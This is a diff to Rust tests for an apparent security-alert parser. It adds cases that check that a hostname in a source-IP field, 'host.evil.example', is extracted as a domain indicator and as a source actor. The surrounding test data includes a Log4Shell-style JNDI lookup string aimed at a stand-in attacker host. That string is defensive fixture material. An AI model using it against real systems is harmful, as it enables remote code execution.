@@ -244,6 +244,11 @@ fn indicators_are_found_where_they_are_written_small() {
         // A line that no decoder took apart; one that was taken apart says nothing new.
         (json!({"full_log": ssh}), &[("ip-src", "203.0.113.9")][..]),
         (json!({"full_log": ssh, "data": {"srcip": "10.0.0.1"}}), &[]),
+        // The SSH server may look the other end up.
+        (
+            json!({"data": {"srcip": "host.evil.example", "dstip": "any"}}),
+            &[("domain", "host.evil.example")],
+        ),
         // What an attacker wants a server to fetch.
         (
             json!({"data": {"srcuser": "${jndi:ldap://evil.example:1389/a}"}}),
@@ -574,6 +579,11 @@ fn actors_are_read_where_no_field_names_them() {
             actors.users[0].name.as_ref()
         ),
         (Some("203.0.113.9"), Some(4022), "admin")
+    );
+    let named = alert(&json!({"data": {"srcip": "host.evil.example", "srcport": "22"}}));
+    assert_eq!(
+        (named.actors().sources[0].host.as_deref(), named.actors().sources.len()),
+        (Some("host.evil.example"), 1)
     );
     let cleared = alert(
         &json!({"data": {"win": {"system": {"eventID": "1102", "providerName": "Microsoft-Windows-Eventlog", "message": "\"The audit log was cleared.\r\nSubject:\r\n\tSecurity ID:\tS-1-5-21-1-500\r\n\tAccount Name:\twardog\r\n\tDomain Name:\tCORP\""}}}}),
